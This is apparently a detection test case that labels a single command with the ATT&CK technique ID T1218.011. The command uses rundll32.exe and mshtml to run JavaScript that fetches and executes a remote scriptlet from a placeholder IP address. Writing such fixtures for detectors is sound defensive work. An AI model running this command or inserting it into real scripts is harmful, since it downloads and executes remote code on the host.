# expect: T1218.011
rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.16/r.sct")
